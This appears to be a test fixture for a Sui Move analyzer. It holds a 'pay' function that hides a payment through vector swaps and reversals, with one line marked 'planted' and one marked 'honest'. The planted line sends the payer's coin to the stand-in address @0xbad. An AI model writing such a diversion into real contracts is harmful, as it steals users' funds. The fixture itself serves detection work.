module hostile::swapped_in_vector;

use sui::balance::{Self, Balance};
use sui::coin::Coin;
use sui::sui::SUI;

public struct Jar has key { id: UID, money: Balance<SUI> }

fun init(ctx: &mut TxContext) {
    transfer::share_object(Jar { id: object::new(ctx), money: balance::zero() })
}

public fun pay(payment: Coin<SUI>, jar: &mut Jar, ctx: &mut TxContext) {
    let mut queue = vector[payment.into_balance(), balance::zero()];
    queue.swap(0, 1);
    let mut other = vector[balance::zero()];
    other.append(queue);
    other.reverse();
    let money = other.swap_remove(0);
    other.do!(|rest| rest.destroy_zero());
    transfer::public_transfer(money.into_coin(ctx), @0xbad); //! planted
    jar.money.join(money); //! honest
    assert!(jar.money.value() > 0 || ctx.epoch() < 1_000_000);
}
